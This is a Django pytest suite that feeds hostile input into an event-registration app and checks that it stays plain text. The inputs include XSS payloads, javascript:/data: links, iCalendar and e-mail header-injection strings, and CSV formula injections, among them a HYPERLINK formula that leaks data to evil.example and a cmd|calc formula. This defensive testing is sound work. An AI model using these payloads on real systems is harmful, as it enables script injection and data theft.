"""Markup, script links and line breaks typed into any text of an event, a registration or an
evaluation never become markup on a page, a property in a calendar file, a header in an e-mail,
a formula in a spreadsheet or HTML in the API.

Pages are parsed, and the parse must hold no element that can run or load anything (script,
style, svg, img, iframe, object …), no event attribute, no style attribute and no
javascript:/data: link. Parsing (rather than searching the text) lets the escaped payload
appear as the text it is. Calendar files are parsed too: a title with a line break must stay one
SUMMARY, not start an ATTENDEE of its own.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import timedelta
from email import message_from_bytes
from html.parser import HTMLParser
from typing import Any

import pytest
from django.core import mail
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from icalendar import Calendar

from valnav.accounts.models import Organisation, OrganisationKind, User
from valnav.accounts.personas import PERSONAS_BY_KEY, demo_organisation
from valnav.accounts.services import membership_grant
from valnav.events.emails import KINDS, email_send_now
from valnav.events.forms import EventForm
from valnav.events.models import (
    EvaluationResponse,
    Event,
    EventState,
    Registration,
    RegistrationStatus,
    RegistrationToken,
)
from valnav.events.services import (
    event_cancel,
    event_create,
    event_publish,
    event_update,
    registration_create,
)
from valnav.events.tokens import token_new
from valnav.lib.csv_io import FORMULA_STARTS
from valnav.places.models import County

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert('x')</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">klicka</a>',
    "[klicka](javascript:alert(1))",
    "[ok](JaVaScRiPt:alert(4))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![bild](javascript:alert(1))",
    '<svg onload="alert(1)"><circle r="9"/></svg>',
    "<style>body { display: none }</style>",
    '<iframe src="https://evil.example/"></iframe>',
    '<p onmouseover="alert(1)" style="color:red">x</p>',
    '" onmouseover="alert(5)" \' onfocus=\'alert(6)',
    "</textarea><script>alert(7)</script>",
    "{{ request.user }}{% csrf_token %}",
]
EVERYTHING = "\n\n".join(PAYLOADS)
# One line: the short texts (title, place, names) go into e-mail subjects and single fields.
LINE = " ".join(PAYLOADS)
SAFE_URL = 'https://meet.example.org/rum"onmouseover="alert(8)'
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1;"klicka")'
DANGEROUS_TAGS = {"script", "style", "svg", "img", "iframe", "object", "embed", "math", "base"}
# The page's own static script tag is the one allowed script (it has a src and no text).
ALLOWED_SCRIPT_SRC = "/static/vendor/htmx/htmx.min.js"
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
ANSWERS = {"relevance": "4", "knowledge": "5", "organisation": "3", "recommend": "4"}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_head = False
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "head":
            self.in_head = True
        if tag == "script":
            self.in_script = True
            if values.get("src") != ALLOWED_SCRIPT_SRC:
                self.problems.append(f"<script src={values.get('src')!r}>")
        elif tag == "style" and self.in_head:
            pass  # the base template's own; a payload can only reach the body
        elif tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.lower().startswith("on"):
                self.problems.append(f"{tag}[{name}={value!r}]")
            if name.lower() == "style":
                self.problems.append(f"{tag}[style={value!r}]")
            if name.lower() in {"href", "src", "action", "formaction", "xlink:href"} and value:
                scheme = "".join(value.split()).lower()
                if scheme.startswith(BAD_SCHEMES):
                    self.problems.append(f"{tag}[{name}={value!r}]")

    def handle_endtag(self, tag: str) -> None:
        if tag == "head":
            self.in_head = False
        if tag == "script":
            self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script and data.strip():
            self.problems.append(f"inline script: {data[:40]!r}")


def problems_in(html: str) -> list[str]:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.problems


def assert_clean(html: str, where: str) -> None:
    assert problems_in(html) == [], where


def page(client: Client, url: str, *, status: int = 200, **extra: Any) -> str:
    response = client.get(url, **extra)
    assert response.status_code == status, url
    return response.content.decode()


def issue(registration: Registration, purpose: str) -> str:
    token, digest = token_new()
    RegistrationToken.objects.create(registration=registration, purpose=purpose, token_hash=digest)
    return token


def hostile_event(**changes: Any) -> Event:
    """A published event made through the services, with a payload in each of its texts."""
    start = timezone.now() + timedelta(days=1)
    organiser = Organisation.objects.create(
        name=("Arrangör " + LINE)[:200], kind=OrganisationKind.EDUCATION_PROVIDER
    )
    # The staff persona runs this organiser's events, so its pages show the payloads too.
    staff_user = User.objects.filter(email=PERSONAS_BY_KEY["communicator_vastmanland"].email)
    if staff_user.exists():
        membership_grant(user=staff_user.get(), organisation=organiser, role="communicator")
    data: dict[str, Any] = {
        "title": ("Seminarium " + PAYLOADS[0] + PAYLOADS[1] + PAYLOADS[11])[:200],
        "description": EVERYTHING,
        "place": ("Konserthuset " + PAYLOADS[7] + PAYLOADS[2] + PAYLOADS[12])[:300],
        "online_url": SAFE_URL,
        "kind": "seminar",
        "organiser": organiser,
        "starts_at": start,
        "ends_at": start + timedelta(hours=3),
        "registration_closes_at": start - timedelta(hours=1),
        "capacity": 1,
        "target_groups": ["employer"],
    } | changes
    event = event_create(actor=None, **data)
    return event_publish(event=event, actor=None)


def registration_form(**changes: str) -> dict[str, str]:
    return {
        "name": ("Anna " + PAYLOADS[0] + PAYLOADS[11])[:200],
        "email": "anna@example.org",
        "organisation_name": ("Komvux " + PAYLOADS[1] + PAYLOADS[12])[:200],
        "organisation_kind": "komvux",
        "county": "",
        "gender": "",
    } | changes


@pytest.fixture
def staff(personas) -> Client:
    client = Client()
    client.force_login(personas["communicator_vastmanland"])
    return client


@pytest.fixture
def hostile(client, mailoutbox, django_capture_on_commit_callbacks) -> Event:
    """The hostile event, with one registration that has the place and one that waits, both
    made through the public form."""
    event = hostile_event()
    with django_capture_on_commit_callbacks(execute=True):
        first = client.post(event.get_absolute_url(), registration_form())
        second = Client().post(
            event.get_absolute_url(),
            registration_form(email="bo@example.org", name="Bo " + PAYLOADS[10]),
        )
    assert first.status_code == second.status_code == 302
    assert Registration.objects.filter(event=event).count() == 2
    return event


# Pages ------------------------------------------------------------------------------------


def test_the_public_pages_show_payloads_only_as_text(client, hostile):
    urls = [
        reverse("events:event-list"),
        hostile.get_absolute_url(),
        reverse("events:registration-done", kwargs={"slug": hostile.slug}),
    ]
    for url in urls:
        html = page(client, url)
        assert_clean(html, url)
        assert "&lt;script&gt;" in html, f"{url} does not show the title as text"
    detail = page(client, hostile.get_absolute_url())
    # The description's Markdown keeps its harmless parts and loses every script link.
    assert "klicka" in detail
    # The online link is never a link on the page ("online" is shown instead).
    assert 'href="https://meet.example.org' not in detail


def test_the_past_list_and_a_cancelled_event_show_payloads_only_as_text(client):
    start = timezone.now() - timedelta(days=2)
    past = hostile_event(
        starts_at=start, ends_at=start + timedelta(hours=1), registration_closes_at=start
    )
    cancelled = hostile_event(place="Aula " + LINE[:200])
    event_cancel(event=cancelled, actor=None)
    assert_clean(page(client, reverse("events:event-archive")), "past list")
    assert_clean(page(client, past.get_absolute_url()), "past event")
    assert_clean(page(client, cancelled.get_absolute_url()), "cancelled event")
    assert_clean(page(client, reverse("events:event-list")), "list with a cancelled event")


def test_the_link_pages_show_payloads_only_as_text(client, hostile):
    registration = Registration.objects.get(event=hostile, email="anna@example.org")
    cancel = reverse("events:registration-cancel", kwargs={"token": issue(registration, "cancel")})
    assert_clean(page(client, cancel), "cancel page")
    response = client.post(cancel)
    assert response.context["just_cancelled"]
    assert_clean(response.content.decode(), "cancel page after POST")
    evaluate = reverse("events:evaluation", kwargs={"token": issue(registration, "evaluate")})
    assert_clean(page(client, evaluate), "evaluation form")
    response = client.post(evaluate, ANSWERS | {"comment": EVERYTHING})
    assert response.context["answered"]
    assert_clean(response.content.decode(), "evaluation form after POST")


def test_the_registration_form_redisplays_payloads_only_as_text(client, hostile):
    """A refused registration puts the typed values back into the form's fields."""
    response = client.post(
        hostile.get_absolute_url(),
        registration_form(email=PAYLOADS[11][:60], organisation_kind=PAYLOADS[0]),
    )
    assert response.status_code == 200
    assert response.context["form"].errors
    assert_clean(response.content.decode(), "registration form with errors")


def test_the_staff_pages_show_payloads_only_as_text(staff, hostile):
    slug = hostile.slug
    urls = [
        reverse("events:manage-list"),
        reverse("events:event-edit", kwargs={"slug": slug}),
        reverse("events:registration-list", kwargs={"slug": slug}),
        reverse("events:evaluation-summary", kwargs={"slug": slug}),
        reverse("events:statistics"),
    ]
    for url in urls:
        assert_clean(page(staff, url), url)
    registrations = page(staff, reverse("events:registration-list", kwargs={"slug": slug}))
    assert "Komvux &lt;img" in registrations  # the organisation name is shown, as text
    assert "Anna &lt;script&gt;" in registrations
    # A draft is listed without a link; its title is text there too.
    hostile_event(title="Utkast " + PAYLOADS[7])
    Event.objects.filter(title__startswith="Utkast").update(state=EventState.DRAFT)
    assert_clean(page(staff, reverse("events:manage-list")), "manage list with a draft")


def test_the_attendance_row_shows_payloads_only_as_text(staff, hostile):
    registration = Registration.objects.get(event=hostile, status=RegistrationStatus.CONFIRMED)
    address = reverse("events:attendance", kwargs={"slug": hostile.slug, "pk": registration.pk})
    response = staff.post(address, {"attended": "1"}, HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Anna &lt;script&gt;" in html
    assert_clean(html, "attendance row")
    waiting = Registration.objects.get(event=hostile, status=RegistrationStatus.WAITLISTED)
    address = reverse("events:attendance", kwargs={"slug": hostile.slug, "pk": waiting.pk})
    response = staff.post(address, {"attended": "1"}, HTTP_HX_REQUEST="true")
    assert_clean(response.content.decode(), "attendance row with an error")


def test_the_evaluation_summary_shows_free_text_only_as_text(client, staff):
    event = hostile_event(capacity=10)
    for number, payload in enumerate(PAYLOADS[:6]):
        registration = Registration.objects.create(
            event=event,
            name=f"Deltagare {number}",
            email=f"deltagare{number}@example.org",
            organisation_name="Komvux",
            organisation_kind="komvux",
            status=RegistrationStatus.CONFIRMED,
            attended=True,
        )
        address = reverse("events:evaluation", kwargs={"token": issue(registration, "evaluate")})
        comment = payload + "\n" + PAYLOADS[(number + 6) % len(PAYLOADS)]
        assert client.post(address, ANSWERS | {"comment": comment}).context["answered"]
    assert EvaluationResponse.objects.filter(registration__event=event).count() == 6
    response = staff.get(reverse("events:evaluation-summary", kwargs={"slug": event.slug}))
    assert response.context["summary"].enough
    html = response.content.decode()
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in html  # shown, as text
    assert "<br>" in html  # line breaks are kept, as <br> only
    assert_clean(html, "evaluation summary")


def test_the_event_form_redisplays_payloads_only_as_text(staff, reference_data):
    organiser = demo_organisation("region-vastmanland")
    start = (timezone.localtime() + timedelta(days=5)).replace(second=0, microsecond=0)
    data = {
        "title": LINE[:200],
        "slug": PAYLOADS[0],  # refused: the form comes back with everything typed
        "kind": "seminar",
        "target_groups": ["employer"],
        "description": EVERYTHING,
        "organiser": str(organiser.pk),
        "county": "",
        "place": LINE[:300],
        "online_url": "javascript:alert(1)",
        "starts_at": start.strftime("%Y-%m-%dT%H:%M"),
        "ends_at": (start + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M"),
        "registration_closes_at": start.strftime("%Y-%m-%dT%H:%M"),
        "capacity": "10",
    }
    response = staff.post(reverse("events:event-new"), data)
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert "slug" in errors
    assert "online_url" in errors
    assert not Event.objects.exists()
    assert_clean(response.content.decode(), "event form with errors")


# The online link --------------------------------------------------------------------------

SCRIPT_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
]


@pytest.mark.parametrize("url", SCRIPT_URLS)
def test_the_form_refuses_a_script_link(url, reference_data):
    form = EventForm({"online_url": url})
    assert not form.is_valid()
    assert "online_url" in form.errors


@pytest.mark.parametrize("url", SCRIPT_URLS)
def test_the_services_refuse_a_script_link(url):
    with pytest.raises(ValidationError) as error:
        hostile_event(online_url=url)
    assert "online_url" in error.value.message_dict
    assert not Event.objects.exists()
    event = hostile_event()
    with pytest.raises(ValidationError) as error:
        event_update(event=event, actor=None, online_url=url)
    assert "online_url" in error.value.message_dict
    event.refresh_from_db()
    assert event.online_url == SAFE_URL


@pytest.mark.parametrize("slug", [PAYLOADS[0], "a b", '"x', "../x", "x\r\ny"])
def test_the_address_name_refuses_markup(slug):
    """The slug goes into URLs and the calendar file's Content-Disposition header."""
    with pytest.raises(ValidationError) as error:
        hostile_event(slug=slug)
    assert "slug" in error.value.message_dict


def test_a_made_up_slug_is_safe_for_the_download_header(client):
    event = hostile_event(title='x"; filename="evil.html; X-Evil: 1')
    response = client.get(reverse("events:event-ics", kwargs={"slug": event.slug}))
    assert response["Content-Disposition"] == f'attachment; filename="{event.slug}.ics"'
    assert all(ch.isalnum() or ch == "-" for ch in event.slug)
    assert "X-Evil" not in response


# Calendar files ---------------------------------------------------------------------------

BREAKOUT = "Möte\r\nATTENDEE:mailto:evil@example.org\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Falsk"


def unfolded(ics: bytes) -> Iterator[str]:
    """The content lines of an iCalendar file, folding undone (RFC 5545 3.1)."""
    text = ics.decode().replace("\r\n ", "").replace("\r\n\t", "")
    yield from (line for line in text.split("\r\n") if line)


def assert_one_clean_vevent(ics: bytes, where: str) -> None:
    calendar = Calendar.from_ical(ics)
    events = calendar.walk("VEVENT")
    assert len(events) == 1, where
    (component,) = events
    assert "ATTENDEE" not in component, where
    names = {line.split(":", 1)[0].split(";", 1)[0] for line in unfolded(ics)}
    assert "ATTENDEE" not in names, where
    assert [line for line in unfolded(ics) if line == "BEGIN:VEVENT"] == ["BEGIN:VEVENT"]
    assert "\n" not in ics.decode().replace("\r\n", ""), f"{where}: a bare line feed"


def stored(event: Event, **texts: str) -> Event:
    """`event` with one-line texts holding line breaks written past the services, as by data
    stored before they were refused: what is served from them must still be safe."""
    Event.objects.filter(pk=event.pk).update(**texts)
    event.refresh_from_db()
    return event


def test_line_breaks_are_refused_in_one_line_texts(client):
    event = hostile_event()
    for field in ("title", "place"):
        with pytest.raises(ValidationError) as error:
            hostile_event(**{field: BREAKOUT})
        assert field in error.value.message_dict
    for field in ("name", "organisation_name"):
        response = client.post(
            event.get_absolute_url(), registration_form(**{field: "Anna\r\nBcc: x@example.org"})
        )
        assert field in response.context["form"].errors
    assert not Registration.objects.filter(event=event).exists()


def test_a_line_break_in_a_text_does_not_start_a_calendar_property(client):
    event = hostile_event(
        title="Möte; ATTENDEE=x:mailto:evil@example.org, " + LINE[:100],
        description=BREAKOUT + "\n" + EVERYTHING,
    )
    event = stored(event, place=BREAKOUT)
    response = client.get(reverse("events:event-ics", kwargs={"slug": event.slug}))
    assert response["Content-Type"].startswith("text/calendar")
    assert_one_clean_vevent(response.content, "event .ics")
    (component,) = Calendar.from_ical(response.content).walk("VEVENT")
    # Each text comes back whole, as one property's value.
    assert str(component["SUMMARY"]) == event.title
    assert "ATTENDEE:mailto:evil@example.org" in str(component["LOCATION"])
    assert "END:VEVENT" in str(component["DESCRIPTION"])
    assert "<script>" in str(component["DESCRIPTION"])  # plain text; calendars show it as such
    feed = client.get(reverse("events:event-feed"))
    assert_one_clean_vevent(feed.content, "calendar feed")


@pytest.mark.parametrize("newline", ["\r\n", "\n"])
def test_a_line_break_in_the_title_does_not_start_a_calendar_property(newline):
    title = BREAKOUT.replace("\r\n", newline)
    event = stored(hostile_event(), title=title)
    # In the feed the title is the event's SUMMARY, escaped there.
    feed = Client().get(reverse("events:event-feed"))
    assert_one_clean_vevent(feed.content, "calendar feed")
    (component,) = Calendar.from_ical(feed.content).walk("VEVENT")
    assert str(component["SUMMARY"]).replace("\r\n", "\n") == title.replace("\r\n", "\n")
    # The event's own file names the calendar after the title as well, on one line.
    response = Client().get(reverse("events:event-ics", kwargs={"slug": event.slug}))
    assert response.status_code == 200
    assert_one_clean_vevent(response.content, "event .ics")


def test_the_online_link_in_a_calendar_is_one_value(client):
    event = hostile_event(place="", online_url=SAFE_URL)
    response = client.get(reverse("events:event-ics", kwargs={"slug": event.slug}))
    assert_one_clean_vevent(response.content, "online event .ics")
    (component,) = Calendar.from_ical(response.content).walk("VEVENT")
    assert str(component["LOCATION"]) == SAFE_URL


# E-mails ----------------------------------------------------------------------------------


def assert_plain_text_email(message: mail.EmailMessage, where: str) -> None:
    """The body is text/plain (no HTML alternative in which markup could run); only the
    registrant is addressed; any calendar attachment has one clean event."""
    assert message.content_subtype == "plain", where
    assert not getattr(message, "alternatives", []), where
    parsed = message_from_bytes(message.message().as_bytes())
    types = [part.get_content_type() for part in parsed.walk()]
    assert "text/html" not in types, where
    assert parsed["Bcc"] is None, where
    assert parsed["Cc"] is None, where
    assert len(message.recipients()) == 1, where
    for part in parsed.walk():
        if part.get_content_type() == "text/calendar":
            payload = part.get_payload(decode=True)
            assert isinstance(payload, bytes)
            assert_one_clean_vevent(payload, f"{where}: calendar attachment")


def test_every_email_is_plain_text_with_the_payloads_as_text(
    hostile, mailoutbox, django_capture_on_commit_callbacks
):
    assert len(mailoutbox) == 2  # confirmation and waiting list, from the fixture
    anna = Registration.objects.get(event=hostile, email="anna@example.org")
    bo = Registration.objects.get(event=hostile, email="bo@example.org")
    # Anna cancels, Bo gets the place (promotion), then a reminder, an invitation to evaluate,
    # and the cancellation of the event.
    client = Client()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("events:registration-cancel", kwargs={"token": issue(anna, "cancel")}))
    bo.refresh_from_db()
    assert bo.status == RegistrationStatus.CONFIRMED
    Registration.objects.filter(pk=bo.pk).update(attended=True)
    assert email_send_now(registration_id=bo.pk, kind="reminder")
    assert email_send_now(registration_id=bo.pk, kind="evaluation")
    with django_capture_on_commit_callbacks(execute=True):
        event_cancel(event=hostile, actor=None)
    bo.refresh_from_db()
    sent = {kind for kind, spec in KINDS.items() if getattr(bo, spec.stamp)}
    assert sent == {"waitlist", "promotion", "reminder", "evaluation", "event_cancelled"}
    assert len(mailoutbox) == 6
    for message in mailoutbox:
        assert_plain_text_email(message, message.subject)
        # The texts are there as typed: plain text, which no mail program runs.
        assert hostile.title in message.body
        assert hostile.title in message.subject
        # The registrant's own texts are not in the e-mail at all.
        assert "Komvux <img" not in message.body


@pytest.mark.parametrize("newline", ["\r\n", "\n", "\r"])
def test_a_line_break_in_the_title_does_not_add_an_email_header(
    newline, client, mailoutbox, django_capture_on_commit_callbacks
):
    """A title with a line break cannot add a header (Bcc) to the e-mails, neither to the
    confirmation (with its calendar file) nor to the waiting list's (without)."""
    event = stored(hostile_event(), title=f"Möte{newline}Bcc: evil@example.org{newline}X-Evil: 1")
    with django_capture_on_commit_callbacks(execute=True):
        client.post(event.get_absolute_url(), registration_form())
        client.post(event.get_absolute_url(), registration_form(email="bo@example.org"))
    assert Registration.objects.filter(event=event).count() == 2
    # Today no e-mail goes out at all for such a title (Django refuses the subject and
    # icalendar the calendar name); whatever is sent must still have no forged header.
    for message in mailoutbox:
        parsed = message_from_bytes(message.message().as_bytes())
        assert parsed["Bcc"] is None
        assert parsed["X-Evil"] is None
        assert len(message.recipients()) == 1
        assert message.recipients()[0] in {"anna@example.org", "bo@example.org"}


@pytest.mark.parametrize(
    "email",
    [
        "anna@example.org\r\nBcc: evil@example.org",
        "anna@example.org\nCc: evil@example.org",
        "anna@example.org, evil@example.org",
        '"<script>"@example.org>',
    ],
)
def test_an_address_cannot_add_recipients(email, client, mailoutbox):
    event = hostile_event(capacity=5)
    response = client.post(event.get_absolute_url(), registration_form(email=email))
    assert response.status_code == 200
    assert "email" in response.context["form"].errors
    assert_clean(response.content.decode(), "registration form with a bad address")
    with pytest.raises(ValidationError) as error:
        registration_create(
            event=event,
            name="Anna",
            email=email,
            organisation_name="Komvux",
            organisation_kind="komvux",
        )
    assert "email" in error.value.message_dict
    assert not Registration.objects.exists()
    assert mailoutbox == []


# Spreadsheets ----------------------------------------------------------------------------


def test_the_statistics_csv_neutralises_formulas(staff, reference_data):
    """The one CSV of events (statistics) holds labels and counts, never a registrant's name
    or organisation; a label that starts like a formula (here a county's name) gets a leading
    apostrophe, so a spreadsheet shows it as text."""
    county = County.objects.get(code="19")
    county.name = FORMULA
    county.save(update_fields=["name"])
    event = hostile_event(capacity=10)
    for number in range(5):
        Registration.objects.create(
            event=event,
            name=f"=cmd|' /C calc'!A{number}",
            email=f"deltagare{number}@example.org",
            organisation_name=f"+SUM(1+{number})",
            organisation_kind="komvux",
            county=county,
            gender="woman",
            status=RegistrationStatus.CONFIRMED,
        )
    response = staff.get(reverse("events:statistics-csv"))
    assert response.status_code == 200
    text = response.content.decode().lstrip("\ufeff")
    assert "cmd|" not in text
    assert "SUM(" not in text
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), cell
    assert_clean(page(staff, reverse("events:statistics")), "statistics page")


# The API ----------------------------------------------------------------------------------


def test_the_api_serves_the_texts_as_json_text(client):
    cache.clear()
    event = stored(hostile_event(title=LINE[:200]), place=BREAKOUT)
    response = client.get("/api/v1/events")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"
    (item,) = response.json()["items"]
    # Plain text in JSON, exactly as typed; no field carries HTML made by the site.
    assert not any(key.endswith("_html") for key in item)
    assert item["title"] == event.title
    assert item["place"] == event.place
    assert item["description"] == event.description  # the Markdown source, documented so
    assert item["organiser"] == event.organiser.name
    assert item["online_url"] == SAFE_URL
    assert item["online_url"].startswith("https://")
    assert item["url"].startswith("https://valnav.example.se/")
    assert "anna@" not in response.content.decode()


def test_the_inspector_catches_what_it_should():
    assert problems_in("<p onclick=x>")
    assert problems_in('<a href=" javascript:x">')
    assert problems_in('<a href="java\tscript:x">')
    assert problems_in("<script>alert(1)</script>")
    assert problems_in("<img src=x>")
    assert problems_in('<p style="x">')
    assert problems_in("<svg>")
    assert not problems_in("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>")
    assert not problems_in(f'<script src="{ALLOWED_SCRIPT_SRC}" defer></script>')
